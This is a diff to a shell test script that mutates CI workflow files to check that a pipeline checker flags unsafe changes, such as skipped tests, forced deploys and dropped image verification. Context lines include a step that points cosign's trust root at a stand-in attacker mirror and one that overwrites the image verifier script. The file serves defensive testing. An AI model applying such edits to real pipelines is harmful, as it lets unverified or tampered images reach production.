@@ -47,8 +47,8 @@ check_workflows() {
     unsigned_pipeline deploys-unverified '/^        run: aks\/deploy.sh --skip-build/s/ --verified-images .*//'
     unsigned_pipeline another-trust-root '/^      - name: aks\/verify-images.sh$/i\      - run: cosign initialize --mirror https://tuf.attacker.example --root root.json'
     unsigned_pipeline az-step-rewrites-the-verifier '/^        run: az account get-access-token/s#$# \&\& echo exit > aks/verify-images.sh#'
-    unsigned_pipeline tests-may-fail '/^        run: tests\/run$/a\        continue-on-error: true'
-    unsigned_pipeline tests-skipped '/^        run: tests\/run$/i\        if: false'
+    unsigned_pipeline tests-may-fail '/^        run: tests\/run "${{ matrix.suite }}"$/a\        continue-on-error: true'
+    unsigned_pipeline tests-skipped '/^        run: tests\/run "${{ matrix.suite }}"$/i\        if: false'
     unsigned_pipeline build-after-failed-tests "s/^    if: github.event_name == 'push' \&\& github.ref == 'refs\/heads\/main'\$/    if: always()/"
     unsigned_pipeline deploy-job-always '/^  deploy:$/a\    if: always()'
     unsigned_pipeline deploy-job-may-fail '/^  deploy:$/a\    continue-on-error: true'
